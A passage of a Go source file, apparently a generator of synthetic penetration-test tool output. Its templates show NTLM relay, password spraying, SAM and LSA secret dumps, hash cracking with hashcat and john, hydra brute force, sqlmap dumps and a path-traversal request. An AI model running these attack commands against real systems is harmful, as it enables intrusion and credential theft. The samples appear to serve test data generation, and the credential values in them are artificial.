Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
DefaultAccount:503:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
WDAGUtilityAccount:504:aad3b435b51404eeaad3b435b51404ee:«=w»:::
sccmlocal:1002:aad3b435b51404eeaad3b435b51404ee:«b»:::
[*] Done dumping SAM hashes for host: 10.50.1.22
[*] Stopping service RemoteRegistry
`, V{"=bk": g.hex(32), "a": g.stNT(), "=w": g.stNT(), "b": g.stNT()}, "-tf relay_targets.txt -smb2support", "as MEGACORP/SVC_SCCM SUCCEED", "[*] Done dumping SAM hashes for host: 10.50.1.22")

	g.add("sec/mitm6-ntlmrelayx-escalate-user", `
[*] HTTPD(80): Client requested path: /wpad.dat
[*] HTTPD(80): Serving PAC file to client ::ffff:10.1.2.77
[*] HTTPD(80): Connection from ::ffff:10.1.2.77 controlled, attacking target ldaps://dc02.fabrikam.local
[*] HTTPD(80): Authenticating against ldaps://dc02.fabrikam.local as FABRIKAM/DA_BACKUP SUCCEED
[*] Enumerating relayed user's privileges. This may take a while on large domains
[*] User privileges found: Create user
[*] User privileges found: Adding user to a privileged group (Enterprise Admins)
[*] User privileges found: Modifying domain ACL
[*] Attempting to create user in: CN=Users,DC=fabrikam,DC=local
[*] Adding new user with username: «_u» and password: «a» result: OK
[*] Querying domain security descriptor
[*] Success! User «_u» now has Replication-Get-Changes-All privileges on the domain
[*] Try using DCSync with secretsdump.py and this user :)
[*] Saved restore state to aclpwn-20250611-141201.restore
`, V{"_u": g.s(alAlnum, 10), "a": g.stPunct()}, "[*] Try using DCSync with secretsdump.py and this user :)", "aclpwn-20250611-141201.restore")

	h7, c7 := g.stNetV2("web_svc", "CONTOSO", "APP02", "contoso.local", true)
	g.add("sec/pcredz-pcap-output", `
$ python3 ./Pcredz -f ~/captures/floor2-span-0611.pcapng
Pcredz 2.0.2
Author: Laurent Gaffie
Using TCP/UDP/IPv4/IPv6 and PCAP/PCAPNG

CC number scanning activated

Parsing: /home/kali/captures/floor2-span-0611.pcapng
Using PCAPNG format

protocol: tcp 10.0.8.33:50211 > 10.0.8.5:21
FTP User: scanbox
FTP Pass: «a»

protocol: tcp 10.0.8.41:49833 > 10.0.8.12:445
NTLMv2 complete hash is: `+strings.TrimSuffix(h7, c7)+`«b»

protocol: udp 10.0.8.90:161 > 10.0.8.2:161
Found SNMPv2 Community string: «c»

/home/kali/captures/floor2-span-0611.pcapng parsed in: 4.12 seconds (File size 91.7 Mo).
`, V{"a": g.pwURL(), "b": c7, "c": strings.ToLower(g.pick(pwWords...)) + "-" + g.s(alLowNum, 6)}, "CC number scanning activated", "FTP User: scanbox", "protocol: udp 10.0.8.90:161 > 10.0.8.2:161")

	chal := g.stSpacedHex(8, 8, "")
	g.add("sec/hostapd-wpe-mschapv2-log", `
$ tail -n 20 hostapd-wpe.log

mschapv2: Wed Jun 11 14:50:12 2025
	 domain\username:		MEGACORP\r.dubois
	 username:			r.dubois
	 challenge:			«_ch»
	 response:			«=resp»
	 jtr NETNTLM:			r.dubois:$NETNTLM$«=chh»$«a»
	 hashcat NETNTLM:		r.dubois::::«a»:«=chh»

GTC: Wed Jun 11 14:53:40 2025
	 username:	MEGACORP\e.lindqvist
	 password:	«b»
`, func() V {
		resp := g.hex(48)
		return V{"_ch": strings.ReplaceAll(strings.ToLower(chal), " ", ":"), "=resp": stColon(resp), "=chh": strings.ReplaceAll(strings.ToLower(chal), " ", ""), "a": resp, "b": g.stSeason()}
	}(), "domain\\username:		MEGACORP\\r.dubois", "GTC: Wed Jun 11 14:53:40 2025")

	g.add("sec/bettercap-net-sniff-post", `
10.0.8.0/24 > 10.0.8.66  » set net.sniff.verbose false
10.0.8.0/24 > 10.0.8.66  » net.sniff on
10.0.8.0/24 > 10.0.8.66  » [14:02:51] [net.sniff.http.request] http printsrv.contoso.local POST /login.html
10.0.8.0/24 > 10.0.8.66  » [14:02:51] [net.sniff.http.request] http 10.0.8.51 POST printsrv.contoso.local/login.html

POST /login.html HTTP/1.1
Host: printsrv.contoso.local
Content-Type: application/x-www-form-urlencoded
Content-Length: 51
Referer: http://printsrv.contoso.local/

user=admin&passwd=«a»&lang=en

10.0.8.0/24 > 10.0.8.66  » [14:03:10] [net.sniff.ftp] ftp 10.0.8.19 > 10.0.8.5:21 PASS «b»
`, V{"a": g.pwURL(), "b": g.pwURL()}, "[net.sniff.http.request] http printsrv.contoso.local POST /login.html", "Host: printsrv.contoso.local")
}

// stColon writes hex as colon-separated byte pairs.
func stColon(h string) string {
	var p []string
	for i := 0; i+2 <= len(h); i += 2 {
		p = append(p, h[i:i+2])
	}
	return strings.Join(p, ":")
}

func (g *G) stCracking() {
	g.add("sec/hashcat-ntlm-show-username", `
$ hashcat -m 1000 dc01_dump.ntds --username --show
northwind.local\m.kowalski:«a»:«b»
northwind.local\svc_sap:«=c»:«=d»
northwind.local\scanner:31d6cfe0d16ae931b73c59d7e0c089c0:
$ hashcat -m 1000 dc01_dump.ntds --username --show | wc -l
212
`, V{"a": g.stNT(), "b": g.stSeason(), "=c": g.stNT(), "=d": g.stHuman()}, "hashcat -m 1000 dc01_dump.ntds --username --show", "northwind.local\\scanner:31d6cfe0d16ae931b73c59d7e0c089c0:")

	h, c := g.stTGS23("svc_mssql", "CONTOSO.LOCAL", "contoso.local/svc_mssql", false)
	pre := strings.TrimSuffix(h, c)
	g.add("sec/hashcat-kerberoast-cracked-status", `
$ hashcat -m 13100 -a 0 roast.txt /usr/share/wordlists/rockyou.txt -r /usr/share/hashcat/rules/best64.rule
hashcat (v6.2.6) starting

CUDA API (CUDA 12.4)
====================
* Device #1: NVIDIA GeForce RTX 3080, 9628/10002 MB, 68MCU

Dictionary cache hit:
* Filename..: /usr/share/wordlists/rockyou.txt
* Passwords.: 14344385
* Bytes.....: 139921507
* Keyspace..: 1104517645

`+pre+`«a»:«b»
                                                          
Session..........: hashcat
Status...........: Cracked
Hash.Mode........: 13100 (Kerberos 5, etype 23, TGS-REP)
Hash.Target......: `+pre+`«=t»...«=u»
Time.Started.....: Wed Jun 11 15:02:44 2025 (41 secs)
Time.Estimated...: Wed Jun 11 15:03:25 2025 (0 secs)
Kernel.Feature...: Pure Kernel
Guess.Base.......: File (/usr/share/wordlists/rockyou.txt)
Guess.Mod........: Rules (/usr/share/hashcat/rules/best64.rule)
Guess.Queue......: 1/1 (100.00%)
Speed.#1.........:  1140.2 MH/s (7.73ms) @ Accel:256 Loops:77 Thr:64 Vec:1
Recovered........: 1/1 (100.00%) Digests (total), 1/1 (100.00%) Digests (new)
Progress.........: 46698496/1104517645 (4.23%)
Rejected.........: 0/46698496 (0.00%)
Restore.Point....: 0/14344385 (0.00%)
Restore.Sub.#1...: Salt:0 Amplifier:0-77 Iteration:0-77
Candidate.Engine.: Device Generator
Candidates.#1....: 123456 -> hottie35
Hardware.Mon.#1..: Temp: 64c Fan: 41% Util: 98% Core:1905MHz Mem:9251MHz Bus:16

Started: Wed Jun 11 15:02:40 2025
Stopped: Wed Jun 11 15:03:26 2025
`, V{"a": c, "b": g.stHuman(), "=t": c[:4], "=u": c[len(c)-10:]}, "Hash.Mode........: 13100 (Kerberos 5, etype 23, TGS-REP)", "Status...........: Cracked", "Candidates.#1....: 123456 -> hottie35")

	v2, v2c := g.stNetV2("S.TANAKA", "CONTOSO", "WS-0412", "contoso.local", true)
	g.add("sec/hashcat-potfile-mixed-modes", `
$ tail -n 4 ~/.local/share/hashcat/hashcat.potfile
«a»:«=p1»
`+strings.TrimSuffix(v2, v2c)+`«b»:«p2»
$DCC2$10240#c.okafor#«=c»:«=p3»
«=d»:
`, V{"a": g.stNT(), "=p1": g.stSeason(), "b": v2c, "p2": g.stHuman(), "=c": g.hex(32), "=p3": g.stHuman(), "=d": g.stNT()},
		"~/.local/share/hashcat/hashcat.potfile", "$DCC2$10240#c.okafor#")

	g.add("sec/john-wordlist-session", `
$ john --format=netntlmv2 --wordlist=/usr/share/wordlists/rockyou.txt responder_hashes.txt
Using default input encoding: UTF-8
Loaded 3 password hashes with 3 different salts (netntlmv2, NTLMv2 C/R [MD4 HMAC-MD5 32/64])
Will run 4 OpenMP threads
Press 'q' or Ctrl-C to abort, almost any other key for status
«a»      (k.brandt)     
«b»      (svc_sccm)     
2g 0:00:00:09 DONE (2025-06-11 15:20) 0.2188g/s 1569Kp/s 4708Kc/s 4708KC/s !!12Honey..*7¡Vamos!
Use the "--show --format=netntlmv2" options to display all of the cracked passwords reliably
Session completed. 
`, V{"a": g.stHuman(), "b": g.stSeason()}, "Loaded 3 password hashes with 3 different salts (netntlmv2, NTLMv2 C/R [MD4 HMAC-MD5 32/64])", "Session completed.")

	g.add("sec/john-show-unshadowed", `
$ unshadow loot/passwd loot/shadow > unshadowed.txt
$ john --show unshadowed.txt
root:«a»:0:0:root:/root:/bin/bash
deploy:«b»:1001:1001:Deploy User,,,:/home/deploy:/bin/bash

2 password hashes cracked, 1 left
`, V{"a": g.stHuman(), "b": g.pwURL()}, "2 password hashes cracked, 1 left", "deploy:", "/home/deploy:/bin/bash")

	kp, kpc := g.stKeepass()
	g.add("sec/keepass2john-then-crack", `
$ keepass2john IT-Shared.kdbx > it-shared.hash
$ cat it-shared.hash
IT-Shared:`+strings.TrimSuffix(kp, kpc)+`«a»
$ hashcat -m 13400 --username it-shared.hash /usr/share/wordlists/rockyou.txt --quiet --show
IT-Shared:`+strings.TrimSuffix(kp, kpc)+`«a»:«b»
`, V{"a": kpc, "b": g.stHuman()}, "keepass2john IT-Shared.kdbx > it-shared.hash", "hashcat -m 13400")

	g.add("sec/zip2john-pkzip-backup", `
$ zip2john site-backup-2024.zip 2>/dev/null
site-backup-2024.zip/db/prod.sql:$pkzip$1*2*2*0*4a1f*1b2c0*«=crc»*0*44*8*4a1f*«=chk»*«a»*$/pkzip$:db/prod.sql:site-backup-2024.zip::site-backup-2024.zip
$ john --show zip.hash
site-backup-2024.zip/db/prod.sql:«b»:db/prod.sql:site-backup-2024.zip::site-backup-2024.zip

1 password hash cracked, 0 left
`, V{"=crc": g.hex(8), "=chk": g.hex(4), "a": g.hex(9492), "b": g.pwURL()}, "$/pkzip$:db/prod.sql:site-backup-2024.zip::site-backup-2024.zip", "1 password hash cracked, 0 left")

	g.add("sec/office2john-xlsx", `
$ office2john.py "Board Q3 forecast.xlsx" | tee board.hash
Board Q3 forecast.xlsx:$office$*2013*100000*256*16*«a»
$ hashcat -m 9600 board.hash --username /usr/share/wordlists/rockyou.txt --show
Board Q3 forecast.xlsx:$office$*2013*100000*256*16*«a»:«b»
`, V{"a": g.hex(32) + "*" + g.hex(32) + "*" + g.hex(64), "b": g.stHuman()}, "office2john.py \"Board Q3 forecast.xlsx\"", "hashcat -m 9600")

	g.add("sec/ssh2john-id-rsa-passphrase", `
$ ssh2john.py loot/home/deploy/.ssh/id_rsa > id_rsa.hash
$ cut -c1-60 id_rsa.hash
loot/home/deploy/.ssh/id_rsa:$sshng$6$16$«=s»$1894$
$ john --wordlist=rockyou.txt id_rsa.hash
Using default input encoding: UTF-8
Loaded 1 password hash (SSH, SSH private key [RSA/DSA/EC/OPENSSH 32/64])
Cost 1 (KDF/cipher [0=MD5/AES 1=MD5/3DES 2=Bcrypt/AES]) is 2 for all loaded hashes
Cost 2 (iteration count) is 16 for all loaded hashes
Will run 4 OpenMP threads
Press 'q' or Ctrl-C to abort, almost any other key for status
«a»         (loot/home/deploy/.ssh/id_rsa)     
1g 0:00:01:12 DONE (2025-06-11 16:01) 0.01388g/s 13.33p/s 13.33c/s 13.33C/s 
`, V{"=s": g.hex(14), "a": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 4)}, "Loaded 1 password hash (SSH, SSH private key [RSA/DSA/EC/OPENSSH 32/64])", "loot/home/deploy/.ssh/id_rsa")

	iat := 1749000000 + g.r.IntN(1000000)
	jw := g.jwt("HS256", fmt.Sprintf(`{"sub":"1042","role":"support","name":"Jo Support","iat":%d,"exp":%d}`, iat, iat+28800))
	g.add("sec/hashcat-jwt-hs256-secret", `
$ echo -n '«a»' > jwt.txt
$ hashcat -m 16500 -a 0 jwt.txt /usr/share/seclists/Passwords/scraped-JWT-secrets.txt --quiet
«a»:«b»
# weak HMAC secret on portal.target.example -> forged role=admin token accepted (finding SEC-07)
`, V{"a": jw, "b": strings.ToLower(g.pick(pwWords...)) + "_" + g.pick("jwt", "secret", "key") + "_" + g.s(alDigit, 4)}, "hashcat -m 16500", "scraped-JWT-secrets.txt", "(finding SEC-07)")

	g.add("sec/dpat-password-reuse-table", stBT(`
## 5.3 Password reuse (DPAT)

DPAT was run against the NTDS extract (2 214 enabled accounts) and the hashcat potfile from the 72-hour crack.

| Password | Count | Notes |
|---|---|---|
| ‵«a»‵ | 61 | seasonal, includes 4 Domain Admins |
| ‵«b»‵ | 17 | company name + year |
| *(blank)* | 3 | NT hash ‵31d6cfe0d16ae931b73c59d7e0c089c0‵ |

Full table: ‵DPAT/_DomainPasswordAuditReport.html‵ (evidence share, encrypted archive).
`), V{"a": g.stSeason(), "b": "Northwind" + g.pick("2024", "2025") + g.pick("!", "#", "$")}, "DPAT/_DomainPasswordAuditReport.html", "31d6cfe0d16ae931b73c59d7e0c089c0", "2 214 enabled accounts")
}

func (g *G) stBrute() {
	g.add("sec/hydra-ftp-found", `
$ hydra -L users.txt -P /usr/share/seclists/Passwords/darkweb2017-top1000.txt ftp://10.20.30.70 -t 4 -f
Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes (this is non-binding, these *** ignore laws and ethics anyway).

Hydra (https://github.com/vanhauser-thc/thc-hydra) starting at 2025-06-11 16:30:02
[DATA] max 4 tasks per 1 server, overall 4 tasks, 6000 login tries (l:6/p:1000), ~1500 tries per task
[DATA] attacking ftp://10.20.30.70:21/
[STATUS] 412.00 tries/min, 412 tries in 00:01h, 5588 to do in 00:14h, 4 active
[21][ftp] host: 10.20.30.70   login: backup   password: «a»
[STATUS] attack finished for 10.20.30.70 (valid pair found)
1 of 1 target successfully completed, 1 valid password found
Hydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2025-06-11 16:31:44
`, V{"a": g.pwURL()}, "[DATA] attacking ftp://10.20.30.70:21/", "1 of 1 target successfully completed, 1 valid password found")

	g.add("sec/hydra-http-post-form", `
$ hydra -l admin -P top-passwords-shortlist.txt 10.1.5.20 http-post-form "/admin/login.php:username=^USER^&password=^PASS^&submit=Login:F=Invalid credentials" -V | grep -v ATTEMPT
Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes (this is non-binding, these *** ignore laws and ethics anyway).

[DATA] max 16 tasks per 1 server, overall 16 tasks, 1024 login tries (l:1/p:1024), ~64 tries per task
[DATA] attacking http-post-form://10.1.5.20:80/admin/login.php:username=^USER^&password=^PASS^&submit=Login:F=Invalid credentials
[80][http-post-form] host: 10.1.5.20   login: admin   password: «a»
1 of 1 target successfully completed, 1 valid password found
`, V{"a": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 3)}, "username=^USER^&password=^PASS^", "F=Invalid credentials")

	g.add("sec/hydra-rdp-multi-target", `
$ hydra -M rdp_hosts.txt -l Administrator -p '«a»' rdp -t 1 -W 3
[WARNING] the rdp module is experimental. Please test, report - and if possible, fix.
[DATA] max 1 task per 9 servers, overall 9 tasks, 1 login try (l:1/p:1), ~1 try per task
[DATA] attacking rdp://(9 targets):3389/
[3389][rdp] host: 10.20.30.41   login: Administrator   password: «a»
[3389][rdp] host: 10.20.30.44   login: Administrator   password: «a»
[3389][rdp] account on 10.20.30.47 might be valid but account not active for remote desktop: login: Administrator password: «a», continuing attacking the account.
9 of 9 targets completed, 2 valid passwords found
`, V{"a": g.stHuman()}, "[WARNING] the rdp module is experimental.", "9 of 9 targets completed, 2 valid passwords found")

	g.add("sec/medusa-ssh-found", `
$ medusa -h 172.16.40.12 -U users.txt -P passwords.txt -M ssh -t 4 -F
Medusa v2.2 [http://www.foofus.net] (C) JoMo-Kun / Foofus Networks <jmk@foofus.net>

ACCOUNT CHECK: [ssh] Host: 172.16.40.12 (1 of 1, 0 complete) User: pi (1 of 3, 0 complete) Password: raspberry (1 of 250 complete)
ACCOUNT CHECK: [ssh] Host: 172.16.40.12 (1 of 1, 0 complete) User: ubnt (2 of 3, 1 complete) Password: ubnt (1 of 250 complete)
ACCOUNT FOUND: [ssh] Host: 172.16.40.12 User: svc_monitor Password: «a» [SUCCESS]
`, V{"a": g.pwURL()}, "Password: raspberry (1 of 250 complete)", "Medusa v2.2 [http://www.foofus.net]")

	g.add("sec/ncrack-rdp-discovered", `
$ ncrack -vv --user administrator -P winpass.txt rdp://10.50.3.15,CL=1
Starting Ncrack 0.7 ( http://ncrack.org ) at 2025-06-11 17:02 UTC

Discovered credentials on rdp://10.50.3.15:3389 'administrator' '«a»'
rdp://10.50.3.15:3389 finished.

Discovered credentials for rdp on 10.50.3.15 3389/tcp:
10.50.3.15 3389/tcp rdp: 'administrator' '«a»'

Ncrack done: 1 service scanned in 183.02 seconds.
Probes sent: 2211 | timed-out: 0 | prematurely-closed: 14
`, V{"a": g.stSeason()}, "Ncrack done: 1 service scanned in 183.02 seconds.", "rdp://10.50.3.15,CL=1")

	g.add("sec/nxc-smb-password-spray", `
$ nxc smb 10.20.30.5 -u users.txt -p '«a»' --continue-on-success | grep -v STATUS_LOGON_FAILURE
SMB         10.20.30.5      445    DC01             [*] Windows Server 2022 Build 20348 x64 (name:DC01) (domain:northwind.local) (signing:True) (SMBv1:False)
SMB         10.20.30.5      445    DC01             [+] northwind.local\h.suzuki:«a» 
SMB         10.20.30.5      445    DC01             [+] northwind.local\p.alvarez:«a» 
SMB         10.20.30.5      445    DC01             [-] northwind.local\o.berg:«a» STATUS_ACCOUNT_LOCKED_OUT 
SMB         10.20.30.5      445    DC01             [-] northwind.local\t.ito:«a» STATUS_PASSWORD_EXPIRED 
`, V{"a": g.stSeason()}, "--continue-on-success", "STATUS_ACCOUNT_LOCKED_OUT", "(domain:northwind.local) (signing:True) (SMBv1:False)")

	g.add("sec/nxc-winrm-pwned", `
$ netexec winrm 10.1.4.0/24 -u svc_deploy -p '«a»' -d fabrikam.local
WINRM       10.1.4.21       5985   APP01            [*] Windows Server 2019 Build 17763 (name:APP01) (domain:fabrikam.local)
WINRM       10.1.4.22       5985   APP02            [*] Windows Server 2019 Build 17763 (name:APP02) (domain:fabrikam.local)
WINRM       10.1.4.21       5985   APP01            [+] fabrikam.local\svc_deploy:«a» (Pwn3d!)
WINRM       10.1.4.22       5985   APP02            [-] fabrikam.local\svc_deploy:«a»
`, V{"a": g.pwStrong()}, "WINRM       10.1.4.21       5985   APP01", "Windows Server 2019 Build 17763 (name:APP02)")

	g.add("sec/nxc-mssql-local-auth-query", `
$ nxc mssql 10.20.30.60 -u sa -p '«a»' --local-auth -q "SELECT name, password_hash FROM sys.sql_logins WHERE is_disabled = 0"
MSSQL       10.20.30.60     1433   SQL01            [*] Windows 10 / Server 2019 Build 17763 (name:SQL01) (domain:northwind.local)
MSSQL       10.20.30.60     1433   SQL01            [+] SQL01\sa:«a» (Pwn3d!)
MSSQL       10.20.30.60     1433   SQL01            name:sa
MSSQL       10.20.30.60     1433   SQL01            password_hash:«b»
MSSQL       10.20.30.60     1433   SQL01            name:erp_reader
MSSQL       10.20.30.60     1433   SQL01            password_hash:«=c»
`, V{"a": g.pwURL(), "b": g.stMSSQL(), "=c": g.stMSSQL()}, "FROM sys.sql_logins WHERE is_disabled = 0", "name:erp_reader")

	g.add("sec/nxc-smb-sam-dump", `
$ nxc smb 10.50.1.0/24 -u Administrator -H «a» --local-auth --sam
SMB         10.50.1.22      445    SCCM01           [+] SCCM01\Administrator:«a» (Pwn3d!)
SMB         10.50.1.22      445    SCCM01           [*] Dumping SAM hashes
SMB         10.50.1.22      445    SCCM01           Administrator:500:aad3b435b51404eeaad3b435b51404ee:«a»:::
SMB         10.50.1.22      445    SCCM01           Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
SMB         10.50.1.22      445    SCCM01           sccmlocal:1002:aad3b435b51404eeaad3b435b51404ee:«b»:::
SMB         10.50.1.22      445    SCCM01           [+] Added 4 SAM hashes to the database
`, V{"a": g.stNT(), "b": g.stNT()}, "[+] Added 4 SAM hashes to the database", "--local-auth --sam")

	g.add("sec/nxc-smb-lsa-secrets", `
$ nxc smb 10.1.4.21 -u svc_deploy -p '«p»' --lsa
SMB         10.1.4.21       445    APP01            [+] fabrikam.local\svc_deploy:«p» (Pwn3d!)
SMB         10.1.4.21       445    APP01            [+] Dumping LSA secrets
SMB         10.1.4.21       445    APP01            FABRIKAM.LOCAL/a.moreau:$DCC2$10240#a.moreau#«=d»: (2025-06-02 07:12:41)
SMB         10.1.4.21       445    APP01            FABRIKAM\APP01$:aes256-cts-hmac-sha1-96:«=m»
SMB         10.1.4.21       445    APP01            FABRIKAM\APP01$:aad3b435b51404eeaad3b435b51404ee:«=n»:::
SMB         10.1.4.21       445    APP01            dpapi_machinekey:0x«=k1»
SMB         10.1.4.21       445    APP01            dpapi_userkey:0x«=k2»
SMB         10.1.4.21       445    APP01            FABRIKAM\svc_iisapppool:«a»
SMB         10.1.4.21       445    APP01            [+] Dumped 7 LSA secrets to /home/kali/.nxc/logs/APP01_10.1.4.21_2025-06-11_173012.secrets and /home/kali/.nxc/logs/APP01_10.1.4.21_2025-06-11_173012.cached
`, V{"p": g.pwStrong(), "=d": g.hex(32), "=m": g.stAES256(), "=n": g.stNT(), "=k1": g.hex(40), "=k2": g.hex(40), "a": g.stHuman()},
		"[+] Dumping LSA secrets", "/home/kali/.nxc/logs/APP01_10.1.4.21_2025-06-11_173012.secrets")

	g.add("sec/o365spray-valid-creds", `
$ o365spray --spray -U valid_users.txt -p '«a»' --count 1 --lockout 15 -d contoso.com

            *** O365 Spray ***            

>----------------------------------------<

   > version        :  3.0.4
   > domain         :  contoso.com
   > validate       :  False
   > enum           :  False
   > spray          :  True
   > spray_module   :  oauth2
   > count          :  1
   > lockout        :  15.0

>----------------------------------------<

[2025-06-11 17:44:10,124] INFO : Running password spray against 388 users.
[2025-06-11 17:44:10,125] INFO : Password Spraying the following passwords: ['«a»']
[2025-06-11 17:44:31,902] INFO : [VALID] l.haddad@contoso.com:«a»
[2025-06-11 17:44:37,418] INFO : [VALID] d.nowak@contoso.com:«a» (Conditional Access Policy)
[2025-06-11 17:44:52,003] INFO : Valid Credentials: 2
`, V{"a": g.stSeason()}, "Running password spray against 388 users.", "   > spray_module   :  oauth2")

	g.add("sec/msolspray-success-mfa", `
PS C:\Tools\MSOLSpray> Invoke-MSOLSpray -UserList .\users.txt -Password '«a»' -URL https://a1b2c3.execute-api.us-east-1.amazonaws.com/fireprox
[*] There are 142 total users to spray.
[*] Now spraying Microsoft Online.
[*] Current date and time: 06/11/2025 17:58:20
[*] SUCCESS! m.varga@fabrikam.com : «a» - NOTE: The response indicates MFA (Microsoft) is in use.
[*] WARNING! The user j.osei@fabrikam.com exists but does not appear to be valid.
[*] WARNING! The account d.kim@fabrikam.com appears to be locked.
[*] SUCCESS! svc_teamsrooms@fabrikam.com : «a»
`, V{"a": g.stSeason()}, "[*] There are 142 total users to spray.", "NOTE: The response indicates MFA (Microsoft) is in use.")

	g.add("sec/wpscan-xmlrpc-password-attack", `
$ wpscan --url https://blog.target.example --usernames editor,admin --passwords rockyou-top5k.txt --password-attack xmlrpc
[+] Performing password attack on Xmlrpc against 2 user/s
[SUCCESS] - editor / «a»
Trying admin / 123abc Time: 00:02:11 <=======> (5000 / 5000) 100.00% Time: 00:02:11

[!] Valid Combinations Found:
 | Username: editor, Password: «a»

[+] WPScan DB API OK
 | Plan: free
 | Requests Done (during the scan): 2
 | Requests Remaining: 23
`, V{"a": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 4)}, "[!] Valid Combinations Found:", "--password-attack xmlrpc", "Trying admin / 123abc")
}

func (g *G) stWeb() {
	crackedPW := strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 3)
	g.add("sec/sqlmap-dump-users-cracked", `
[16:40:02] [INFO] fetching entries for table 'users' in database 'shopdb'
[16:40:03] [INFO] recognized possible password hashes in column 'pass_hash'
do you want to store hashes to a temporary file for eventual further processing with other tools [y/N] N
do you want to crack them via a dictionary-based attack? [Y/n/q] Y
[16:40:05] [INFO] using hash method 'md5_generic_passwd'
[16:40:05] [INFO] using default dictionary
do you want to use common password suffixes? (slow!) [y/N] N
[16:40:05] [INFO] starting dictionary-based cracking (md5_generic_passwd)
[16:40:11] [INFO] cracked password '«b»' for user 'ops'
Database: shopdb
Table: users
[3 entries]
+----+---------------------+----------+--------------------------------------------------------------+
| id | email               | username | pass_hash                                                    |
+----+---------------------+----------+--------------------------------------------------------------+
| 1  | admin@shop.example  | admin    | «c» |
| 2  | ops@shop.example    | ops      | «a» («b»)`+strings.Repeat(" ", 60-32-3-len(crackedPW))+` |
| 3  | j.doe@mail.example  | jdoe     | «=d» |
+----+---------------------+----------+--------------------------------------------------------------+

[16:40:11] [INFO] table 'shopdb.users' dumped to CSV file '/home/kali/.local/share/sqlmap/output/shop.example/dump/shopdb/users.csv'
`, V{"a": g.hex(32), "b": crackedPW, "c": "$2y$10$" + g.s(alAlnum+"./", 53), "=d": "$2y$10$" + g.s(alAlnum+"./", 53)},
		"[16:40:05] [INFO] using hash method 'md5_generic_passwd'", "admin@shop.example", "/home/kali/.local/share/sqlmap/output/shop.example/dump/shopdb/users.csv")

	g.add("sec/sqlmap-dump-csv-api-clients", `
$ cat ~/.local/share/sqlmap/output/crm.target.example/dump/crm/api_clients.csv
id,name,client_id,client_secret,created_at,webhook_url
1,mobile-ios,«_c1»,«a»,2023-02-11 10:02:44,https://hooks.target.example/ios
2,partner-acme,«_c2»,«b»,2024-07-30 14:11:09,https://partner.acme.example/cb
`, V{"_c1": g.uuid(), "a": g.an(40), "_c2": g.uuid(), "b": g.an(40)}, "id,name,client_id,client_secret,created_at,webhook_url", "https://hooks.target.example/ios")

	g.add("sec/sqlmap-passwords-postgres", `
$ sqlmap -r req.txt --dbms=PostgreSQL --passwords --batch
[17:02:33] [INFO] fetching database users password hashes
[17:02:34] [INFO] retrieved: 'postgres'
[17:02:35] [INFO] retrieved: 'md5«a»'
[17:02:36] [INFO] retrieved: 'report_ro'
[17:02:37] [INFO] retrieved: 'SCRAM-SHA-256$4096:«=s»$«=k»:«=sk»'
[17:02:37] [INFO] starting dictionary-based cracking (postgres_passwd)
[17:02:51] [INFO] cracked password '«b»' for user 'postgres'
database management system users password hashes:
[*] postgres [1]:
    password hash: md5«a»
    clear-text password: «b»
[*] report_ro [1]:
    password hash: SCRAM-SHA-256$4096:«=s»$«=k»:«=sk»
`, V{"a": g.hex(32), "=s": g.b64(16), "=k": g.b64(32), "=sk": g.b64(32), "b": strings.ToLower(g.pick(pwWords...)) + g.s(alDigit, 2)},
		"sqlmap -r req.txt --dbms=PostgreSQL --passwords --batch", "[*] report_ro [1]:")

	iat := 1749600000 + g.r.IntN(200000)
	tok := g.jwt("RS256", fmt.Sprintf(`{"iss":"https://auth.target.example","sub":"usr_8841","aud":"portal-api","scope":"tickets:read tickets:write","iat":%d,"exp":%d}`, iat, iat+900))
	g.add("sec/burp-repeater-request", `
POST /api/v2/tickets/8841/attachments HTTP/2
Host: portal.target.example
Cookie: __Host-portal_session=«a»; lang=en-GB; _ga=GA1.1.1492042313.1749200112
Content-Length: 74
Sec-Ch-Ua-Platform: "Windows"
Authorization: Bearer «b»
Accept-Language: en-GB,en;q=0.9
Content-Type: application/json
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 Safari/537.36
Origin: https://portal.target.example
Referer: https://portal.target.example/tickets/8841

{"filename":"../../../../etc/passwd","content_type":"text/plain","size":1}
`, V{"a": g.b64u(43), "b": tok}, "Host: portal.target.example", "_ga=GA1.1.1492042313.1749200112", "{\"filename\":\"../../../../etc/passwd\"")

	g.add("sec/burp-copy-as-curl", `
curl -i -s -k -X $'POST' \
    -H $'Host: hr.target.example' -H $'Content-Type: application/x-www-form-urlencoded' -H $'X-Requested-With: XMLHttpRequest' \
    -b $'JSESSIONID=«a»; remember-me=«b»' \
    --data-binary $'employeeId=1043&salaryBand=E7' \
    $'https://hr.target.example/hr/api/employee/update'
`, V{"a": g.s(alHexU, 32), "b": b64s("admin:" + fmt.Sprint(1780000000000+g.r.IntN(99999999)) + ":" + g.hex(32))}, "https://hr.target.example/hr/api/employee/update", "employeeId=1043&salaryBand=E7")

	g.add("sec/burp-intruder-results", `
Intruder attack 3 — Sniper — POST /api/auth/login — payload set 1 (password)

Request	Payload	Status code	Response received	Error	Timeout	Length	Comment
0		401	88	false	false	412	
117	«=x1»	401	91	false	false	412	
118	«=x2»	401	87	false	false	412	
119	«a»	200	143	false	false	1893	
120	«=x3»	429	12	false	false	204	
-> 119 returned {"token":"«b»","expires_in":3600} for username=svc.reporting
`, V{"=x1": g.stHuman(), "=x2": g.stHuman(), "a": g.stSeason(), "=x3": g.stHuman(), "b": g.b64u(48)}, "Intruder attack 3 — Sniper — POST /api/auth/login", "for username=svc.reporting")

	g.add("sec/zap-report-json-alert", `
{
  "@programName": "ZAP",
  "@version": "2.16.1",
  "@generated": "Wed, 11 Jun 2025 18:20:44",
  "site": [{
    "@name": "https://shop.target.example",
    "@host": "shop.target.example",
    "@port": "443",
    "alerts": [{
      "pluginid": "10024",
      "alertRef": "10024",
      "alert": "Information Disclosure - Sensitive Information in URL",
